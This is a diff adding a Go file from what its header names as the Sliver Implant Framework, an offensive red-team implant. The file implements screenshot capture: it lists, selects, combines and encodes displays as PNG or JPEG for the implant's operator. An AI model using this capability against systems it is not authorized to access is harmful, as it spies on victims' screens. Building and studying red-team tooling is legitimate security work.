@@ -1 +1,133 @@
 package screen
+
+/*
+	Sliver Implant Framework
+	Copyright (C) 2023  Bishop Fox
+
+	This program is free software: you can redistribute it and/or modify
+	it under the terms of the GNU General Public License as published by
+	the Free Software Foundation, either version 3 of the License, or
+	(at your option) any later version.
+
+	This program is distributed in the hope that it will be useful,
+	but WITHOUT ANY WARRANTY; without even the implied warranty of
+	MERCHANTABILITY or FITNESS FOR A PARTICULAR PURPOSE.  See the
+	GNU General Public License for more details.
+
+	You should have received a copy of the GNU General Public License
+	along with this program.  If not, see <https://www.gnu.org/licenses/>.
+*/
+
+import (
+	"bytes"
+	"errors"
+	"fmt"
+	"image"
+	"image/draw"
+	"image/jpeg"
+	"image/png"
+
+	"github.com/bishopfox/sliver/protobuf/sliverpb"
+)
+
+const (
+	FormatPNG  = "png"
+	FormatJPEG = "jpeg"
+
+	// DefaultJPEGQuality - Used if the request's quality is out of range
+	DefaultJPEGQuality = 75
+)
+
+var (
+	ErrNoDisplays = errors.New("no active displays")
+)
+
+// display - An active display, the image is only set if it was captured
+type display struct {
+	bounds image.Rectangle
+	img    image.Image
+}
+
+// Screenshot - Capture the displays the request asks for, as a single image of all
+// of them drawn at their position on the virtual screen or one image per display
+func Screenshot(req *sliverpb.ScreenshotReq) (*sliverpb.Screenshot, error) {
+	format := req.Format
+	if format == "" {
+		format = FormatPNG
+	}
+	if format != FormatPNG && format != FormatJPEG {
+		return nil, fmt.Errorf("unsupported image format '%s'", format)
+	}
+	displays, err := capture(!req.List)
+	if err != nil {
+		return nil, err
+	}
+	if len(displays) < 1 {
+		return nil, ErrNoDisplays
+	}
+	screenshot := &sliverpb.Screenshot{Format: format}
+	for index, display := range displays {
+		screenshot.Displays = append(screenshot.Displays, &sliverpb.ScreenshotDisplay{
+			Index:  uint32(index + 1),
+			X:      int32(display.bounds.Min.X),
+			Y:      int32(display.bounds.Min.Y),
+			Width:  int32(display.bounds.Dx()),
+			Height: int32(display.bounds.Dy()),
+		})
+	}
+	if req.List {
+		return screenshot, nil
+	}
+
+	if 0 < req.Display {
+		if len(displays) < int(req.Display) {
+			return nil, fmt.Errorf("no display %d (%d active displays)", req.Display, len(displays))
+		}
+		displays = displays[req.Display-1 : req.Display]
+		screenshot.Displays = screenshot.Displays[req.Display-1 : req.Display]
+	}
+	if req.Split {
+		for index, display := range displays {
+			screenshot.Displays[index].Data, err = encode(display.img, format, req.Quality)
+			if err != nil {
+				return nil, err
+			}
+		}
+		return screenshot, nil
+	}
+	screenshot.Data, err = encode(combine(displays), format, req.Quality)
+	if err != nil {
+		return nil, err
+	}
+	return screenshot, nil
+}
+
+// combine - Draw the displays onto one image, gaps between displays are left black
+func combine(displays []display) image.Image {
+	if len(displays) == 1 {
+		return displays[0].img
+	}
+	bounds := image.Rectangle{}
+	for _, display := range displays {
+		bounds = bounds.Union(display.bounds)
+	}
+	canvas := image.NewRGBA(image.Rect(0, 0, bounds.Dx(), bounds.Dy()))
+	for _, display := range displays {
+		draw.Draw(canvas, display.bounds.Sub(bounds.Min), display.img, display.img.Bounds().Min, draw.Src)
+	}
+	return canvas
+}
+
+func encode(img image.Image, format string, quality uint32) ([]byte, error) {
+	buf := &bytes.Buffer{}
+	var err error
+	if format == FormatJPEG {
+		if quality < 1 || 100 < quality {
+			quality = DefaultJPEGQuality
+		}
+		err = jpeg.Encode(buf, img, &jpeg.Options{Quality: int(quality)})
+	} else {
+		err = png.Encode(buf, img)
+	}
+	return buf.Bytes(), err
+}